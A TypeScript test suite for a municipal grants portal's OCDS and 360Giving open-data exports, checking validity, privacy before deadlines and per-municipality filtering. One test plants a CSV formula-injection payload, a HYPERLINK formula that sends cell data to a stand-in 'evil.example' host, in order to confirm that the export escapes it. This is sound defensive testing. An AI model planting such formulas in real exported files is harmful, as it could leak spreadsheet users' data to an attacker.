import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { cancelCall } from "~/domains/calls/calls.server";
import { createBudgetSetting, createDraftCall } from "../../../tests/factories-calls";
import { ocdsPackageValidator, threeSixtyGivingPackageValidator } from "../../../tests/standards/validators";
import { createFundedProcess } from "../../../tests/factories-open-data";
import { forgetPublisher } from "~/domains/municipalities/publisher.server";
import { getEnv } from "~/utils/env.server";
import { buildOcdsReleasePackage } from "./ocds.server";
import { threeSixtyGivingPrefix } from "./open-data-rules";
import { buildThreeSixtyGivingCsv, buildThreeSixtyGivingPackage } from "./threesixty-giving.server";

const options = { publicUrl: "https://portal.karakol.kg", ocidPrefix: "ocds-kgkrk1", now: new Date("2026-07-01T00:00:00Z") };
const get = (path: string) => ({ request: new Request(`https://portal.karakol.kg${path}`), params: {}, context: {} }) as never;

describe("open data exports", () => {
  it("publishes a valid OCDS 1.1.5 release package with the whole contracting process", async () => {
    const { call, award, agreement } = await createFundedProcess();
    const pkg = await buildOcdsReleasePackage(options);
    const validate = ocdsPackageValidator();
    expect(validate(pkg), JSON.stringify(validate.errors, null, 2)).toBe(true);

    const release = pkg.releases.find((r) => r.tender.id === call.reference)!;
    expect(release.ocid).toBe(`ocds-kgkrk1-${call.reference}`);
    expect(release.planning.budget.amount).toEqual({ amount: 200000, currency: "KGS" });
    expect(release.tender.numberOfTenderers).toBe(2);
    expect(release.tender.status).toBe("complete");
    expect(release.awards).toEqual([
      expect.objectContaining({ id: award.reference, status: "active", value: { amount: 150000.5, currency: "KGS" } }),
    ]);
    const contract = release.contracts[0]!;
    expect(contract.id).toBe(agreement.number);
    expect(contract.milestones.map((m) => m.status)).toEqual(["met", "scheduled"]);
    expect(contract.implementation.transactions).toEqual([expect.objectContaining({ value: { amount: 60000.2, currency: "KGS" } })]);
  });

  it("publishes awarded grants as a valid 360Giving package and CSV", async () => {
    const { award, winner } = await createFundedProcess();
    const pkg = await buildThreeSixtyGivingPackage(options);
    const validate = threeSixtyGivingPackageValidator();
    expect(validate(pkg), JSON.stringify(validate.errors, null, 2)).toBe(true);
    const grant = pkg.grants.find((g) => g.id === `360G-kgkrk1-${award.reference}`)!;
    expect(grant).toMatchObject({ currency: "KGS", amountAwarded: 150000.5, amountDisbursed: 60000.2, awardDate: "2026-04-01" });
    expect(grant.recipientOrganization[0]!.id).toBe(`KG-INN-${winner.tin}`);

    const csv = await buildThreeSixtyGivingCsv(options);
    const [header, ...rows] = csv.trim().split("\r\n");
    expect(header!.split(",")[0]).toBe("Identifier");
    const row = rows.find((r) => r.startsWith(`360G-kgkrk1-${award.reference},`));
    expect(row).toContain("150000.50");
  });

  it("names no applicant of a call before its deadline", async () => {
    const { call, loser } = await createFundedProcess();
    const { prisma } = await import("~/utils/db.server");
    await prisma.call.update({
      where: { id: call.id },
      data: { status: "PUBLISHED", submissionDeadline: new Date("2026-08-01T12:00:00Z") },
    });
    const pkg = await buildOcdsReleasePackage(options);
    const release = pkg.releases.find((r) => r.tender.id === call.reference)!;
    expect(release.tender.tenderers).toBeUndefined();
    expect(JSON.stringify(release)).not.toContain(loser.tin);
    const validate = ocdsPackageValidator();
    expect(validate(pkg), JSON.stringify(validate.errors, null, 2)).toBe(true);
  });

  it("leaves out draft calls and undecided awards", async () => {
    const { call, award } = await createFundedProcess();
    const { prisma } = await import("~/utils/db.server");
    await prisma.call.update({ where: { id: call.id }, data: { status: "DRAFT" } });
    await prisma.award.updateMany({ where: { callId: call.id }, data: { status: "PROPOSED" } });
    expect((await buildOcdsReleasePackage(options)).releases.some((r) => r.tender.id === call.reference)).toBe(false);
    expect((await buildThreeSixtyGivingPackage(options)).grants.some((g) => g.id.endsWith(award.reference))).toBe(false);
  });

  it("never publishes a call that was never published: a draft that was cancelled, with whatever hangs on it", async () => {
    const { call, award } = await createFundedProcess();
    const { prisma } = await import("~/utils/db.server");
    // As if the draft had been cancelled: never published, so no publication instant.
    await prisma.call.update({
      where: { id: call.id },
      data: { status: "CANCELLED", publishedAt: null, cancelledReason: "Отменён до публикации." },
    });
    const pkg = await buildOcdsReleasePackage(options);
    expect(pkg.releases.some((r) => r.tender.id === call.reference)).toBe(false);
    expect((await buildThreeSixtyGivingPackage(options)).grants.some((g) => g.id.endsWith(award.reference))).toBe(false);
    expect(await buildThreeSixtyGivingCsv(options)).not.toContain(award.reference);

    // Through the officer's own steps: drafted, then cancelled.
    const { appropriation, officer } = await createBudgetSetting();
    const draft = await createDraftCall({ actor: officer, appropriationId: appropriation.id });
    await cancelCall({ actor: officer, callId: draft.id, reason: "Программа пересмотрена до публикации." });
    const later = await buildOcdsReleasePackage({ ...options, now: new Date(Date.now() + 365 * 24 * 3600 * 1000) });
    expect(later.releases.some((r) => r.tender.id === draft.reference)).toBe(false);
  });

  it("writes no live formula into the 360Giving CSV, whatever an organization typed", async () => {
    const { award, winner } = await createFundedProcess();
    const { prisma } = await import("~/utils/db.server");
    await prisma.proposal.update({
      where: { id: award.proposalId },
      data: { title: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', summary: "+1+1" },
    });
    await prisma.organization.update({ where: { id: winner.id }, data: { nameRu: "@SUM(1,2)" } });
    const { loader } = await import("~/routes/_open-data.open-data.360giving[.]csv");
    const response = await loader(get("/open-data/360giving.csv"));
    expect(response.headers.get("Content-Type")).toContain("text/csv");
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: string[][] = parse(bytes.subarray(3).toString("utf8"));
    const header = rows[0]!;
    const row = rows.find((r) => r[0] === `${threeSixtyGivingPrefix(getEnv().OCID_PREFIX)}-${award.reference}`)!;
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell("Title")).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Подробнее")`);
    expect(cell("Description")).toBe("'+1+1");
    expect(cell("Recipient Org:Name")).toBe("'@SUM(1,2)");
    // No cell of the file starts with a formula character any more.
    expect(rows.flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d)/.test(c))).toEqual([]);
  });

  it("publishes each municipality's releases under its own prefix, and one municipality's file on its own", async () => {
    const karakol = await createFundedProcess();
    const osh = await createFundedProcess();
    const { prisma } = await import("~/utils/db.server");
    await prisma.municipality.update({
      where: { id: osh.municipality.id },
      data: { ocidPrefix: "ocds-kgosh1", nameRu: "Мэрия города Ош" },
    });
    forgetPublisher();
    const { loader: ocds } = await import("~/routes/_open-data.open-data.ocds[.]json");
    const { loader: giving } = await import("~/routes/_open-data.open-data.360giving[.]json");
    const { loader: givingCsv } = await import("~/routes/_open-data.open-data.360giving[.]csv");

    const all = await (await ocds(get("/open-data/ocds.json"))).json();
    const ocidOf = (reference: string) => all.releases.find((r: { tender: { id: string } }) => r.tender.id === reference)?.ocid;
    expect(ocidOf(karakol.call.reference)).toBe(`${getEnv().OCID_PREFIX}-${karakol.call.reference}`);
    expect(ocidOf(osh.call.reference)).toBe(`ocds-kgosh1-${osh.call.reference}`);

    const oshOnly = await (await ocds(get(`/open-data/ocds.json?municipality=${osh.municipality.slug}`))).json();
    expect(ocdsPackageValidator()(oshOnly)).toBe(true);
    expect(oshOnly.releases.map((r: { tender: { id: string } }) => r.tender.id)).toEqual([osh.call.reference]);
    expect(oshOnly.publisher.name).toBe("Мэрия города Ош");
    expect(oshOnly.uri).toContain(`?municipality=${osh.municipality.slug}`);

    const grants = await (await giving(get(`/open-data/360giving.json?municipality=${osh.municipality.slug}`))).json();
    expect(threeSixtyGivingPackageValidator()(grants)).toBe(true);
    expect(grants.grants.map((g: { id: string }) => g.id)).toEqual([`360G-kgosh1-${osh.award.reference}`]);
    const csv = await givingCsv(get(`/open-data/360giving.csv?municipality=${karakol.municipality.slug}`));
    expect(csv.headers.get("Content-Disposition")).toContain(`360giving-grants-${karakol.municipality.slug}.csv`);
    expect(await csv.text()).not.toContain(osh.award.reference);

    // A mistyped municipality is not silently every municipality's data.
    const unknown = await ocds(get("/open-data/ocds.json?municipality=no-such-place")).catch((error: unknown) => error);
    expect(unknown).toBeInstanceOf(Response);
    expect((unknown as Response).status).toBe(404);
  });
});
